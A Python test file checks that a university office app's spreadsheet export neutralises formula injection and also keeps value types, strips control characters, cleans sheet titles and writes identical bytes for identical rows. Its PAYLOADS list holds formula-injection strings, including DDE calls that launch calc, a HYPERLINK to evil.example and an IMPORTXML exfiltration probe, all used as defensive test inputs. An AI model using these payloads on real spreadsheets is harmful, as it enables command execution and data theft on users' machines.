"""What people take away: never a formula, types kept, the same bytes for the same rows (SECURITY M4, V46, V47)."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from zipfile import ZipFile

import openpyxl
import pytest
import time_machine
from hypothesis import given, settings
from hypothesis import strategies as st

from kuu_office.core.spreadsheets.reader import read_upload
from kuu_office.core.spreadsheets.writer import Column, Workbook, write_table

COLUMNS = [Column("name", "Аталышы", 40), Column("credits", "Кредит", 10, "0.00"), Column("day", "Күнү")]
ROWS = [
    {"name": "Математика", "credits": Decimal("5.5"), "day": date(2024, 9, 27)},
    {"name": "Тарых", "credits": 4, "day": None},
]

PAYLOADS = [
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://e\",A1))",
    "+1+1", "+cmd|'/c calc'!A0", "-1+1", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "@A1",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\x00=1+1", "\x07=1", "=\x001+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "'=1+1", "\"=1+1\"", "=1+1\";=2", ";=1+1", ",=1+1", "={1;2}", "=A1:A9", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "%0A=1+1", "|=1", "-", "=", "==", "0=1",
]  # fmt: skip


def sheets_of(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(content))


def cells_of(content: bytes) -> list:
    return [cell for row in sheets_of(content).active.iter_rows() for cell in row]


def one_cell(value, **column):
    columns = [Column("x", "X", **column), Column("y", "Y")]
    return cells_of(write_table(columns, [{"x": value, "y": "end"}], "X"))[2]


def test_a_table_has_a_frozen_styled_header_and_its_widths():
    sheet = sheets_of(write_table(COLUMNS, ROWS, "План")).active
    assert (sheet.title, sheet.freeze_panes) == ("План", "A2")
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [40, 10, 14]
    assert [(cell.value, cell.font.bold, cell.alignment.wrap_text) for cell in sheet[1]] == [
        ("Аталышы", True, True),
        ("Кредит", True, True),
        ("Күнү", True, True),
    ]


def test_values_keep_their_types():
    rows = list(sheets_of(write_table(COLUMNS, ROWS, "План")).active.iter_rows(min_row=2))
    assert [[cell.value for cell in row] for row in rows] == [
        ["Математика", 5.5, datetime(2024, 9, 27)],
        ["Тарых", 4, None],
    ]
    assert [cell.number_format for cell in rows[0]] == ["General", "0.00", "DD.MM.YYYY"]
    assert [cell.data_type for cell in rows[0]] == ["s", "n", "d"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_a_formula(payload):
    columns = [Column("x", payload), Column("y", "Y")]
    content = write_table(columns, [{"x": payload, "y": payload}], payload)
    cells = cells_of(content)
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    with ZipFile(BytesIO(content)) as package:
        xml = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<f " not in xml


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@A1", "\t=1", " =1"])
def test_texts_that_begin_like_formulas_are_marked_as_quoted(payload):
    assert one_cell(payload).quotePrefix


def test_ordinary_texts_are_not_marked():
    assert not one_cell("Тарых").quotePrefix


def test_control_openpyxl_alone_would_write_a_formula():
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    assert book.active["A1"].data_type == "f"


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=80))
def test_any_text_can_be_written_and_comes_back_without_its_controls(text):
    cell = one_cell(text)
    assert cell.data_type in ("s", "n")
    kept = "".join(sign for sign in text if sign.isprintable())
    assert "".join(sign for sign in cell.value or "" if sign.isprintable()) == kept


def test_control_characters_are_removed():
    assert one_cell("А\x00с\x0bа\x1fн\x7f").value == "Асан"


def test_a_text_longer_than_excel_holds_is_cut():
    assert len(one_cell("ү" * 40_000).value) == 32_767


@pytest.mark.parametrize("value", [float("nan"), float("inf"), Decimal("NaN"), Decimal("-Infinity"), None, "", "\x00"])
def test_what_is_no_number_is_left_blank(value):
    assert one_cell(value).value is None


@pytest.mark.parametrize(("lang", "words"), [("ky", ["ооба", "жок"]), ("ru", ["да", "нет"]), ("en", ["yes", "no"])])
def test_yes_and_no_are_words_of_the_language(lang, words):
    content = write_table([Column("x", "X")], [{"x": True}, {"x": False}], "X", lang)
    assert [cell.value for cell in cells_of(content)[1:]] == words


def test_moments_are_written_in_bishkek_time():
    cell = one_cell(datetime(2024, 9, 27, 20, 5, tzinfo=UTC))
    assert (cell.value, cell.number_format) == (datetime(2024, 9, 28, 2, 5), "DD.MM.YYYY HH:MM")
    assert one_cell(datetime(2024, 9, 27, 8, 0)).value == datetime(2024, 9, 27, 8, 0)


def test_great_numbers_and_exact_decimals_survive():
    assert one_cell(10**14).value == 10**14
    assert one_cell(Decimal("0.1")).value == 0.1


def test_the_same_rows_give_the_same_bytes_whenever_they_are_written():
    with time_machine.travel(datetime(2024, 9, 1, tzinfo=UTC)):
        first = write_table(COLUMNS, ROWS, "План")
    with time_machine.travel(datetime(2025, 3, 5, tzinfo=UTC)):
        assert write_table(COLUMNS, ROWS, "План") == first
    assert write_table(COLUMNS, ROWS[:1], "План") != first


@pytest.mark.parametrize(
    ("title", "sheet"),
    [("План: [ПИ] 2024/2025?", "План   ПИ  2024 2025"), ("", "1"), ("'", "1"), ("ү" * 40, "ү" * 31), ("a\x00b", "ab")],
)
def test_sheet_titles_are_made_acceptable(title, sheet):
    assert sheets_of(write_table(COLUMNS, [], title)).sheetnames == [sheet]


def test_sheets_of_one_book_get_different_titles():
    book = Workbook()
    for title in ("План", "план", "ПЛАН", "ү" * 40, "ү" * 40):
        book.add_table(title, COLUMNS, ROWS)
    assert sheets_of(book.to_bytes()).sheetnames == ["План", "план 2", "ПЛАН 3", "ү" * 31, "ү" * 27 + " 2"]


def test_a_book_without_tables_still_opens():
    assert len(sheets_of(Workbook().to_bytes()).sheetnames) == 1


def test_what_is_written_can_be_read_through_the_gate():
    sheet = read_upload(write_table(COLUMNS, ROWS, "План"), "план.xlsx").first
    assert [[cell.text for cell in row.cells.values()] for row in sheet.rows] == [
        ["Аталышы", "Кредит", "Күнү"],
        ["Математика", "5.5", "2024-09-27"],
        ["Тарых", "4"],
    ]
